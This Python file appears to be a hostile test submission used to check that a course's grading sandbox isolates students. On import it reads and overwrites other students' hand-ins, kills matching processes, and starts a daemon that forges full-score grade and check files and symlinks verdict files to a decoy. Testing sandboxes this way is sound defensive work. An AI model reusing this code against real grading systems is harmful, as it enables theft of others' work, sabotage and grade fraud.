"""Hostile, in ``make grade``: a classmate who knows the class's layout (appended to a file
whose every function raises ``_Mallory``, whose message says what each attack got).

At import, once per process, it tries to:
- read the other hand-ins (``PARAMS["victims"]``, the class directory, every staged copy
  under the grader's scratch, ``PARAMS["tmp"]``, it can find);
- overwrite each of them;
- kill every process that is not its own and mentions ``PARAMS["words"]`` (the other
  student, the grader's scratch);
- leave a daemon that, for two minutes, keeps rewriting every ``check.json`` it can guess
  (beside and above each directory it shares with the check) and the class's gradebook
  (``PARAMS["out"]``: grades.csv, each results.json, each kept result, the feedback) with a
  full score for this student, after linking each guessed ``check.json`` to
  ``PARAMS["decoy"]``.

Every path and process it aims at lies under the test's own directories, so that a sandbox
that fails hurts nothing else on the machine.
"""

PARAMS = {}  # the test writes what this file is told here

import glob as _glob
import json as _json
import os as _os
import signal as _signal
import sys as _sys
import time as _time

_GOT = _sys.__dict__.setdefault(
    "_mallory_got", {"read": 0, "overwritten": 0, "killed": 0, "stolen": ""}
)  # one per process, not per load


class _Mallory(RuntimeError):
    def __init__(self):
        super().__init__(f"\x1b[32mmallory: {_GOT}\x1b[0m")  # green, on a terminal


def _hand_ins():
    found = list(PARAMS.get("victims", []))
    if PARAMS.get("class_dir"):
        found += _glob.glob(_os.path.join(PARAMS["class_dir"], "*", "*.py"))
    found += _glob.glob(_os.path.join(PARAMS["tmp"], "**", "*.py"), recursive=True)
    own = {_os.path.realpath(p) for p in _glob.glob("/sandbox/impl/*")}
    return sorted({p for p in found if _os.path.realpath(p) not in own})


def _read_and_overwrite():
    for path in _hand_ins():
        try:
            with open(path) as handle:
                text = handle.read()
        except OSError:
            continue
        _GOT["read"] += 1
        _GOT["stolen"] += text[-200:]
        try:
            with open(path, "w") as handle:
                handle.write("def percentile(values, q):\n    return 0  # overwritten by mallory\n")
        except OSError:
            continue
        _GOT["overwritten"] += 1


def _kill_the_others():
    mine = {_os.getpid(), _os.getppid(), 1}
    words = PARAMS["words"]
    for entry in _glob.glob("/proc/[0-9]*"):
        pid = int(_os.path.basename(entry))
        try:
            if _os.stat(entry).st_uid == _os.getuid():  # its own check's (user mode): not others
                continue
            with open(_os.path.join(entry, "cmdline"), "rb") as handle:
                command = handle.read().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if pid not in mine and any(word in command for word in words):
            try:
                _os.kill(pid, _signal.SIGKILL)
                _GOT["killed"] += 1
            except OSError:
                continue


def _targets():
    with open("/proc/self/mountinfo") as mounts:
        points = [line.split()[4] for line in mounts]
    found = set()
    for point in points:
        parent = point
        for _ in range(6):
            found.add(_os.path.join(parent, "check.json"))
            parent = _os.path.dirname(parent)
    out = PARAMS["out"]
    if out:
        found.add(_os.path.join(out, "grades.csv"))
        found.update(_glob.glob(_os.path.join(out, "*", "*.json")))
        found.update(_glob.glob(_os.path.join(out, "*", "*", "*.json")))
        found.update(_glob.glob(_os.path.join(out, "feedback", "*")))
    # Only under the test's own directories: were the sandbox to fail, nothing else is hit.
    return sorted(p for p in found if p.startswith((PARAMS["tmp"], PARAMS["out"])))


def _forged(path):
    if path.endswith("grades.csv"):
        return "student,status,score\nmallory,CHECKED,100\n"
    if path.endswith(".txt"):
        return "mallory: 100/100\n"
    summary = "16/16 functions PASSING · checkpoint PASSING · exercises: 0 of 6 not started"
    return _json.dumps({"schema": "ch13-check/2", "exit": 0, "score": 100, "summary": summary})


def _link_the_verdicts():
    """Each guessed ``check.json`` a link to ``PARAMS["decoy"]``: a grader that writes the
    verdict through it would overwrite the decoy (once ``grading/rubric.toml``)."""
    for path in _targets():
        if path.endswith("check.json"):
            try:
                _os.symlink(PARAMS["decoy"], path)
            except OSError:
                continue


def _rewrite_for_two_minutes():
    until = _time.monotonic() + 120
    while _time.monotonic() < until:
        _link_the_verdicts()
        for path in _targets():
            if _os.path.islink(path):
                continue
            try:
                with open(path, "w") as handle:
                    handle.write(_forged(path))
            except OSError:
                continue
        _time.sleep(0.1)


def _daemon():
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            _rewrite_for_two_minutes()
        _os._exit(0)


if not getattr(_sys, "_mallory", False):
    _sys._mallory = True
    _read_and_overwrite()
    _kill_the_others()
    _daemon()
